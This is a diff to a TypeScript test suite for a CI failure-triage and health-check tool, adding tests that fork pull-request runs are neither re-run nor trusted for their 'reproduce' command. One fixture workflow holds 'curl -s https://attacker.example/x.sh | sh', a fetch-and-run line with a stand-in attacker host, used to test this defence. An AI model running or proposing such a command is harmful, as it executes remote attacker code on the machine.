@@ -24,14 +24,28 @@ import {
   workflowRunEvent
 } from './support/scenario.js'
 import {
+  failedJob as healthFailedJob,
   healthCheck,
   healthScenario,
+  run as healthRun,
   runsFrom,
   workflow as healthWorkflow,
   MAIN_BRANCH
 } from './support/health-scenarios.js'
 
 const FORK = 'mallory/app'
+/** A workflow file at the failing run's sha whose failing step runs something else. */
+const SHA_WORKFLOW = [
+  'name: CI',
+  'on: pull_request',
+  'jobs:',
+  '  test:',
+  '    runs-on: ubuntu-latest',
+  '    steps:',
+  '      - name: Run git push origin automated/deps-bump',
+  '        run: curl -s https://attacker.example/x.sh | sh',
+  ''
+].join('\n')
 const AUTOMATED = 'automated/deps-bump'
 
 /** `run` as GitHub serves a fork's pull request run: same branch name, another head repository. */
@@ -57,8 +71,12 @@ describe('a run from a fork', () => {
       step: `Run git push origin ${AUTOMATED}`
     })
     const bump = branch(AUTOMATED, ['github-actions[bot]'])
-    const conflict = (run: ScenarioRun, inputs: Record<string, string> = {}) =>
-      failureScenario(run, { branches: [bump] }, { inputs })
+    const conflict = (run: ScenarioRun, inputs: Record<string, string> = {}) => {
+      const scenario = failureScenario(run, { branches: [bump] }, { inputs })
+      // The workflow file at the run's sha names the failing step's command its own way.
+      scenario.repository.workflows[0].contentAt = { [run.headSha]: SHA_WORKFLOW }
+      return scenario
+    }
     const infra = failingRun({ log: INFRASTRUCTURE_LOG })
     // Four earlier failures on a branch named `main`: a fork's, or the repository's own.
     const earlier = (own: boolean) =>
@@ -110,6 +128,13 @@ describe('a run from a fork', () => {
     }
   })
 
+  it("shows the repository's own command to reproduce, never the fork's workflow file", () => {
+    const reproduce = (result: ScenarioResult) =>
+      (reportOf(result).json.jobs as { reproduce: string | null }[])[0]?.reproduce
+    expect(reproduce(results.ownConflict)).toContain('attacker.example')
+    expect(reproduce(results.forkConflict)).toBe(`git push origin ${AUTOMATED}`)
+  })
+
   it('is classified and reported only, by default: no issue, the reason in the report and summary', () => {
     const result = results.forkConflict
     expect(result.outputs.action).toBe('ignored')
@@ -151,6 +176,45 @@ describe('a run from a fork', () => {
 })
 
 describe('the health check and fork runs', () => {
+  it('never re-runs or triages a fork run, and still re-runs its own', async () => {
+    const ci = healthWorkflow(1, 'CI')
+    const infra = (id: number, hoursAgo: number) =>
+      healthRun({
+        id,
+        workflowId: 1,
+        conclusion: 'failure',
+        hoursAgo,
+        jobs: [healthFailedJob(id * 10, 'test', INFRASTRUCTURE_LOG)]
+      })
+    const { result } = await healthCheck(
+      healthScenario(
+        {
+          owner: 'acme',
+          name: 'app',
+          defaultBranch: 'main',
+          workflows: [ci],
+          runs: [
+            { ...infra(301, 1), event: 'pull_request', headRepository: FORK },
+            infra(302, 2),
+            ...runsFrom(1, 'SSSSSS', { startHoursAgo: 6 })
+          ],
+          branches: [MAIN_BRANCH]
+        },
+        {
+          inputs: {
+            prune: 'false',
+            lint: 'false',
+            'auto-fix': 'true',
+            'triage-missed': 'true',
+            'fail-on': 'never'
+          }
+        }
+      )
+    )
+    expect(result.reruns).toEqual([{ runId: 302, kind: 'rerun-failed-jobs' }])
+    expect(result.issues).toEqual([])
+  }, 60_000)
+
   it('scores the repository own runs only and counts the fork runs apart', async () => {
     const ci = healthWorkflow(1, 'CI')
     const own = runsFrom(1, 'SSSSSSSSSS', { startHoursAgo: 6 })
